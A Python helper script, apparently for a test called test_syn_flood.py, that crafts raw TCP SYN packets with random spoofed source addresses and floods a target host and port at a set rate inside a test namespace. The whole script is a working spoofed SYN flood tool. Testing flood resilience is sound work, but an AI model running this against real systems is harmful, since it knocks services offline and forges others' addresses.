#!/usr/bin/env python3
"""SYN flood for test_syn_flood.py: TCP SYNs to DST:PORT from random spoofed
sources in SRC_NET/16 with random ports, through a raw socket, at about
RATE per second for SECONDS; prints the number sent. Runs in a namespace
the test made."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst, port, src_net, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 20000.0
    base = socket.inet_aton(src_net)[:2]
    dst_b = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    start = time.monotonic()
    sent, end = 0, start + seconds
    while time.monotonic() < end:
        # Paced, so the flood does not starve the other programs sharing
        # the CPU (wrk, the long-lived connection) of time to run.
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
        for _ in range(256):
            src = base + bytes([random.randrange(1, 255), random.randrange(1, 255)])
            try:
                s.sendto(syn(src, dst_b, random.randrange(1024, 65535), port), (dst, 0))
                sent += 1
            except OSError:
                time.sleep(0.001)
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main()
